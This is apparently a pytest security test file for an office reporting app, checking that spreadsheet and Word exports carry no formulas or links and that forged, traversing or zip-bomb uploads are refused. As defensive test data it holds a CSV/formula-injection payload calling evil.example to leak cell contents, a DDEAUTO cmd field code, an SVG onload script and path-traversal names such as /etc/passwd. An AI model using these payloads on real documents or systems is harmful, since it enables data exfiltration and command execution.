"""What leaves the board is text where it was text: no export runs anything on the machine of whoever opens it."""

from __future__ import annotations

import io
import re
import tomllib
import zipfile
from collections.abc import Callable, Mapping
from datetime import date
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook

from config.language import speaking
from data_access import accounts, submissions
from data_access.accounts import Role
from data_access.office import attachments, forms, notices
from data_access.office.attachments import AttachedError
from data_access.reports import administration
from data_access.reports.view import View
from data_access.workbooks import callsheets, documents, exports, returns
from tests.conftest import Office
from tests.data_access import books
from tests.data_access.street import DAY, Board
from tests.pages.conftest import account, administrator
from tests.security.reach import ROOT
from tests.workbooks import hostile

SIGNS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "return": "\r", "line": "\n",
         "wide equals": "＝", "wide plus": "＋", "wide minus": "－", "wide at": "＠"}  # fmt: skip
TAIL = 'HYPERLINK("http://evil.example/?"&A1,"点")'


def _frame(text: str) -> pd.DataFrame:
    return pd.DataFrame({text: [text, f"{text} ", None], "n": pd.array([1, 2, None], dtype="Int64")})


WRITERS: Mapping[str, Callable[[str], bytes]] = {
    "a report": lambda text: exports.workbook({text: _frame(text)}, definitions={text: text}),
    "a call sheet": lambda text: callsheets.workbook({text: _frame(text)}, text, [text]),
    "a sheet as it is sent": lambda text: books.morning("春晖社区", issues=text, owner=text, chair=text),
    "a copy with its findings": lambda text: _returned(text),
}


def _returned(text: str) -> bytes:
    Board(administrator()).communities(["春晖社区"])
    sent = books.morning(f"{text}社区", issues=text)
    found = submissions.examine(accounts.console(), sent, f"{text}.xlsx")
    told = [*found.findings, *(one for sheet in found.sheets for one in sheet.findings)]
    return returns.annotated(sent, f"{text}.xlsx", told, "zh_CN")


@pytest.mark.parametrize("writer", WRITERS)
@pytest.mark.parametrize("sign", SIGNS)
def test_no_cell_is_a_formula(office: Office, writer: str, sign: str) -> None:
    """Tried: a text that begins like a formula in every heading, cell, title and note. Held: each is a text, marked
    as one, so that it stays one where the sheet is edited or saved as CSV; no sheet holds a formula or a link."""
    text = SIGNS[sign] + TAIL
    made = WRITERS[writer](text)
    said = 0
    for sheet in load_workbook(io.BytesIO(made)).worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            assert cell.data_type != "f" and (cell.hyperlink is None or cell.hyperlink.id is None)
            if isinstance(cell.value, str) and "HYPERLINK" in cell.value and cell.value.startswith(text[0]):
                said += 1
                assert cell.data_type == "s"
                assert cell.quotePrefix or cell.number_format == "@", cell.coordinate
    with zipfile.ZipFile(io.BytesIO(made)) as parts:
        assert not [name for name in parts.namelist() if "externalLink" in name or "vbaProject" in name]
        for name in parts.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in parts.read(name)
    assert said or sign in ("tab", "return", "line") or writer == "a copy with its findings"


@pytest.mark.parametrize("sign", ["equals", "at", "field"])
def test_no_letter_runs_anything(office: Office, sign: str) -> None:
    """Tried: formulas and field codes in the names that a notice tells. Held: in docx they are text, the only
    fields are the page numbers; in xlsx they are text; and neither refers to anything outside."""
    name = {"equals": "=1+1社区", "at": "@SUM(A1)社区", "field": "{ DDEAUTO c:\\\\cmd }社区"}[sign]
    board = Board(administrator())
    board.communities([name, "春晖社区"])
    for place in (name, "春晖社区"):
        board.baseline(place, surveyed=100)
        board.evening(place, cum_d1=50, cum_full=40, cum_b=30)
    notice = notices.publish(board.actor, board.view())
    with zipfile.ZipFile(io.BytesIO(forms.docx(notice))) as parts:
        body = parts.read("word/document.xml").decode()
        links = "".join(parts.read(part).decode() for part in parts.namelist() if part.endswith(".rels"))
        codes = [code for part in parts.namelist() if part.endswith(".xml")
                 for code in re.findall(r"<w:instrText[^>]*>([^<]*)<", parts.read(part).decode())]  # fmt: skip
    assert name.replace("&", "&amp;") in body
    assert {code.strip().split()[0] for code in codes} <= {"PAGE", "NUMPAGES"}
    assert 'TargetMode="External"' not in links
    for sheet in load_workbook(io.BytesIO(forms.xlsx(notice))).worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert documents.BODY  # the letter is that of the office


@pytest.mark.parametrize("key", ["morning", "roster", "base", "actions"])
def test_a_template_runs_nothing(office: Office, key: str) -> None:
    """Tried: formulas in the register, in sites and in matters, handed out in a prefilled template. Held: the template
    has no formula but those of its own drop-down lists, which name sheets of its own."""
    board = Board(administrator())
    board.communities([{"name": "=1+1社区", "liaison": "@A1"}])
    board.sites([{"name": "+2+2点", "address": "-3"}])
    board.action("=1+1社区", "DB-1", issue="=4+4", owner="@B1", due=DAY, found_on=DAY)
    made = administration.blank_workbook(View(board.actor, DAY, "covid"), key, "zh_CN")
    book = load_workbook(io.BytesIO(made))
    for sheet in book.worksheets:
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        for rule in sheet.data_validations.dataValidation:
            assert "1+1" not in str(rule.formula1) and "http" not in str(rule.formula1)


def test_nothing_is_written_as_csv() -> None:
    """Tried: finding a way by which a table leaves as CSV, where a text cannot be marked. Held: there is none, and the
    grids' own is off."""
    sources = [*(ROOT / "pages").rglob("*.py"), *(ROOT / "data_access").rglob("*.py"), *(ROOT / "charts").rglob("*.py")]
    assert [path.name for path in sources if re.search(r"to_csv|csv\.writer", path.read_text(encoding="utf-8"))] == []


def test_the_settings_are_those_of_the_paper() -> None:
    """Tried: finding a setting of Streamlit that was softened. Held: docs/security.md and the file say the same."""
    told = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    listed = dict(re.findall(r"^\| `(\w+\.\w+)` \| `([^`]+)` \|", told, re.M))
    with (ROOT / ".streamlit" / "config.toml").open("rb") as file:
        set_: dict[str, Any] = tomllib.load(file)
    parts = ("client", "server", "runner", "browser")
    found = {f"{part}.{name}": value for part in parts for name, value in set_[part].items()}
    assert {name: tomllib.loads(f"x = {value}")["x"] for name, value in listed.items()}.items() <= found.items()
    assert found.keys() - listed.keys() == {
        "server.showEmailPrompt",
        "runner.postScriptGC",
        "runner.fastReruns",
    }  # ease and speed, no lost clicks


# What comes in --------------------------------------------------------------------------------------------------------

BOMBS = ("bomb", "swelling", "slow")
FORGED = {
    "a page as a photo": ("x.jpg", b"<html><script>1</script></html>"),
    "a program as a photo": ("x.jpg", b"MZ" + b"\0" * 500),
    "a picture that is a page": ("x.svg", b"<svg onload='alert(1)'/>"),
    "a photo as a document": ("x.pdf", b"\xff\xd8\xff\xe0" + b"\0" * 500),
    "a program's name": ("x.jpg.exe", b"\xff\xd8\xff\xe0" + b"\0" * 500),
    "a workbook with macros as a document": ("x.docm", b"PK\x03\x04" + b"\0" * 500),
    "nothing": ("x.jpg", b""),
}


@pytest.mark.parametrize("what", FORGED)
def test_a_file_is_what_it_says(office: Office, what: str) -> None:
    """Tried: files of evidence that are something else than their name says. Held: refused with a sentence."""
    actor = account(Role.CLERK)
    name, data = FORGED[what]
    with pytest.raises(AttachedError):
        attachments.add(actor, actor.community_id or 0, "evidence", "2022/1.1", name, data, "photo")


@pytest.mark.parametrize(
    "name", ["../../street.key", "..\\..\\x.xlsx", "/etc/passwd", "C:\\x.xlsx", "a\u202excod.xlsx"]
)
def test_a_name_leads_nowhere(office: Office, name: str) -> None:
    """Tried: workbooks whose names climb out of their folder or turn the writing round. Held: the name is a text;
    nothing is written beside the database, and the copy that goes back has a plain name."""
    before = sorted(path.name for path in office.data_dir.rglob("*"))
    Board(administrator()).communities(["春晖社区"])
    data = books.morning("春晖社区", 3, date(2022, 8, 11))
    outcome = submissions.commit(accounts.console(), submissions.examine(accounts.console(), data, name), data)
    assert outcome.status == "committed"
    after = sorted(path.name for path in office.data_dir.rglob("*") if "street.db" not in path.name)
    assert set(after) - set(before) <= {"logs", "street.log"}
    with speaking("zh_CN"):
        assert not re.search(r"[/\\\u202a-\u202e]", returns.returned_name(name))


@pytest.mark.parametrize("what", BOMBS)
def test_a_bomb_goes_off_outside(office: Office, what: str) -> None:
    """Tried: workbooks that unpack to gigabytes, or that no parser gets through. Held: one finding each, in seconds,
    and the next file is read as ever."""
    Board(administrator()).communities(["春晖社区"])
    actor = accounts.console()
    made = submissions.examine(actor, getattr(hostile, what)(), "x.xlsx")
    assert submissions.preview(actor, made).status == "rejected"
    good = submissions.examine(actor, books.morning("春晖社区", 3), "y.xlsx")
    assert submissions.preview(actor, good).status == "committed"
